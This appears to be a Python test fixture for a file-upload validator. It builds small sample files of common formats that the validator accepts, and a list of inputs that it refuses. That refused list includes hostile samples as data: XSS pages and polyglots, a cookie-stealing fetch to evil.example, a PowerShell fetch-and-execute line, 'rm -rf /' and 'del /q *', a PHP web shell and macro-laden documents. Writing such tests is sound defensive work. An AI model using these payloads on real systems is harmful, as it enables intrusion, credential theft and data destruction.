"""Small files of every kind that people send, made here, and some that nobody should."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00"
    + b"\x08" * 64
    + b"\xff\xd9"
)
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
TEXT = "Grüße aus Köln,\nbitte rufen Sie zurück.\n".encode()


def png() -> bytes:
    """One white pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\xff")) + chunk(b"IEND", b"")
    )


def zipped(*names: str, mimetype: str = "", size: int = 0) -> bytes:
    """A ZIP with these entries; `mimetype` is its first entry, stored, as ODF wants it."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        if mimetype:
            archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        for name in names:
            content = bytes(range(256)) * (size // 256) if size else b"<x/>"
            archive.writestr(zipfile.ZipInfo(name), content)
    return target.getvalue()


def docx(size: int = 0) -> bytes:
    """As Word writes it."""
    return zipped("[Content_Types].xml", "_rels/.rels", "word/document.xml", size=size)


def compound(*streams: str, leading: int = 0) -> bytes:
    """An OLE file (MS-CFB) with these streams in its directory, which stands behind `leading` empty sectors."""
    entries = b"".join(_entry(name) for name in ("Root Entry", *streams))
    entries += b"\0" * (-len(entries) % 512)
    sectors = len(entries) // 512
    first = 1 + leading
    table = [0xFFFFFFFD, *[0xFFFFFFFE] * leading]
    table += [first + number + 1 for number in range(sectors - 1)] + [0xFFFFFFFE]
    table += [0xFFFFFFFF] * (128 - len(table))
    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, first, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    return header + struct.pack("<128I", *table) + b"\0" * (512 * leading) + entries


def _entry(name: str) -> bytes:
    text = name.encode("utf-16-le") + b"\0\0"
    return text.ljust(64, b"\0") + struct.pack("<HBB", len(text), 2, 1) + b"\0" * 60


#: (name, content, content type)
TAKEN = [
    ("plan.pdf", PDF, "application/pdf"),
    ("mit Zeilenumbruch davor.pdf", b"\r\n" + PDF, "application/pdf"),
    ("dach.png", png(), "image/png"),
    ("dach.jpg", JPEG, "image/jpeg"),
    ("exif.jpg", b"\xff\xd8\xff\xe1\x00\x18Exif\x00\x00II*\x00" + b"\0" * 40, "image/jpeg"),
    ("a.gif", GIF, "image/gif"),
    ("a.webp", b"RIFF\x1a\0\0\0WEBPVP8L\x0e\0\0\0/\0\0\0\0" + b"\0" * 9, "image/webp"),
    ("IMG_0815.HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40, "image/heic"),
    ("IMG_0816.heif", b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic" + b"\0" * 40, "image/heic"),
    ("a.avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 40, "image/avif"),
    ("scan.tif", b"II*\0\x08\0\0\0\x01\0" + b"\0" * 20, "image/tiff"),
    ("scan.tiff", b"MM\0*\0\0\0\x08\0\x01" + b"\0" * 20, "image/tiff"),
    ("paint.bmp", b"BM" + struct.pack("<IHHI", 58, 0, 0, 54) + struct.pack("<IIIHH", 40, 1, 1, 1, 24) + b"\0" * 28,
     "image/bmp"),
    ("Angebot.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("groß.docx", docx(300_000), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("Liste.xlsx", zipped("_rels/.rels", "xl/workbook.xml", "[Content_Types].xml"),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("Folien.pptx", zipped("[Content_Types].xml", "ppt/presentation.xml"),
     "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    ("Brief.odt", zipped("content.xml", "META-INF/manifest.xml", mimetype="application/vnd.oasis.opendocument.text"),
     "application/vnd.oasis.opendocument.text"),
    ("Tabelle.ods", zipped("content.xml", mimetype="application/vnd.oasis.opendocument.spreadsheet"),
     "application/vnd.oasis.opendocument.spreadsheet"),
    ("alt.doc", compound("\x01CompObj", "1Table", "WordDocument"), "application/msword"),
    ("alt.xls", compound("Workbook"), "application/vnd.ms-excel"),
    ("weit hinten.xls", compound(*(f"Stream {number}" for number in range(9)), "Workbook", leading=20),
     "application/vnd.ms-excel"),
    ("brief.rtf", b"{\\rtf1\\ansi Hallo}", "application/rtf"),
    ("notiz.txt", TEXT, "text/plain"),
    ("ohne Endung", TEXT, "text/plain"),
    ("alt.txt", "Grüße €".encode("cp1252"), "text/plain"),
    ("unicode.txt", "Grüße".encode("utf-16"), "text/plain"),
    ("mit Marke.txt", "Grüße".encode("utf-8-sig"), "text/plain"),
    ("lang.txt", "ä".encode() * 70_000, "text/plain"),
    ("lang und um ein Byte verschoben.txt", b"x" + "ä".encode() * 70_000, "text/plain"),
    ("BMW.txt", b"BMW kaufen, bitte anrufen", "text/plain"),
    ("liste.csv", "Name;Telefon\nÄnne;030 12\n".encode(), "text/csv"),
    ("aenne.vcf", b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A\r\nEND:VCARD\r\n", "text/vcard"),
    ("termin.ics", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", "text/calendar"),
    ("film.mp4", b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\0" * 40, "video/mp4"),
    ("film.mov", b"\0\0\0\x14ftypqt  \0\0\2\0qt  " + b"\0" * 40, "video/quicktime"),
    ("film.webm", b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webmB\x87\x81\x04",
     "video/webm"),
    ("sprache.m4a", b"\0\0\0\x20ftypM4A \0\0\2\0M4A " + b"\0" * 40, "audio/mp4"),
    ("sprache.mp3", b"ID3\x03\0\0\0\0\0\0" + b"\0" * 20, "audio/mpeg"),
    ("ohne tag.mp3", b"\xff\xfb\x90d" + b"\0" * 40, "audio/mpeg"),
    ("sprache.wav", b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0" + b"\0" * 20, "audio/wav"),
    ("sprache.ogg", b"OggS\0\x02" + b"\0" * 30, "audio/ogg"),
]  # fmt: skip

PAGE = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
#: (name, content): refused whatever they are called.
REFUSED = [
    ("nichts.pdf", b""),
    ("leer.txt", b" \r\n"),
    ("seite.pdf", PAGE),
    ("seite.html", PAGE),
    ("seite.txt", PAGE),
    ("seite mit Marke.txt", b"\xef\xbb\xbf \n" + PAGE),
    ("seite.txt", PAGE.decode().encode("utf-16")),
    ("bild.png", SVG),
    ("bild.txt", SVG),
    ("daten.xml", b"<daten/>"),
    ("polyglot.gif", b"GIF89a/*" + PAGE + b"*/=1;"),
    ("polyglot.jpg", b"\xff\xd8\xff\xfe\x00\x40" + PAGE + b"\0" * 30),
    ("polyglot.pdf", b"%PDF-1.4\n" + PAGE),
    ("polyglot.bmp", b"BM" + b"\0" * 12 + b"\x28\0\0\0" + PAGE),
    ("programm.exe", b"MZ\x90\0\x03" + b"\0" * 80),
    ("programm.pdf", b"MZ\x90\0\x03" + b"\0" * 80 + PDF),
    ("programm.txt", b"\x7fELF\x02\x01\x01" + b"\0" * 80),
    ("mac.jpg", b"\xcf\xfa\xed\xfe" + b"\0" * 80),
    ("skript.js", b"fetch('https://evil.example/' + document.cookie)"),
    ("skript.vbs", b'CreateObject("WScript.Shell").Run "calc"'),
    ("skript.bat", b"@echo off\r\ndel /q *\r\n"),
    ("skript.ps1", b"Invoke-WebRequest evil.example | iex"),
    ("skript.txt", b"#!/bin/sh\nrm -rf /\n"),
    ("skript.txt", b"<?php system($_GET[0]);"),
    ("anwendung.hta", b"alert(1)"),
    ("daten.json", b'{"a": 1}'),
    ("archiv.zip", zipped("Rechnung.exe")),
    ("Rechnung.docx", zipped("Rechnung.exe")),
    ("Makro.docx", zipped("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")),
    ("Makro.odt", zipped("content.xml", "Basic/script-lc.xml", mimetype="application/vnd.oasis.opendocument.text")),
    ("Programm.docx", zipped("META-INF/MANIFEST.MF", "[Content_Types].xml", "word/document.xml", "A.class")),
    ("Buch.epub", zipped("content.xml", mimetype="application/epub+zip")),
    ("binär.xlsb.xlsx", zipped("[Content_Types].xml", "xl/workbook.bin")),
    ("abgeschnitten.docx", docx()[:-10]),
    ("falsch.docx", b"PK\x03\x04" + b"\0" * 60),
    ("installation.doc", compound("\u4840\u3f7f\u4164\u422f\u4836", "\x05SummaryInformation")),
    ("Makro.doc", compound("WordDocument", "Macros")),
    ("Makro.xls", compound("Workbook", "_VBA_PROJECT_CUR")),
    ("verschlüsselt.xlsx", compound("EncryptedPackage", "EncryptionInfo")),
    ("im Kreis.doc", compound("x")[:512] + struct.pack("<128I", 0xFFFFFFFD, 1, *[1] * 126) + b"\0" * 512),
    ("nur ein Anfang.doc", compound("WordDocument")[:60]),
    (
        "film.mkv",
        b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x88matroskaB\x87\x81\x04",
    ),
    ("unbekannt.mp4", b"\0\0\0\x18ftypxxxx\0\0\2\0isomiso2" + b"\0" * 40),
    ("archiv.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 30),
    ("archiv.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 30),
    ("archiv.gz", b"\x1f\x8b\x08\0" + b"\0" * 30),
    ("abbild.iso", b"\0" * 4096),
    ("verknüpfung.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 40),
    ("rauschen.txt", bytes(range(256)) * 4),
    ("etwas.avi", b"RIFF\x24\0\0\0AVI LIST" + b"\0" * 20),
]
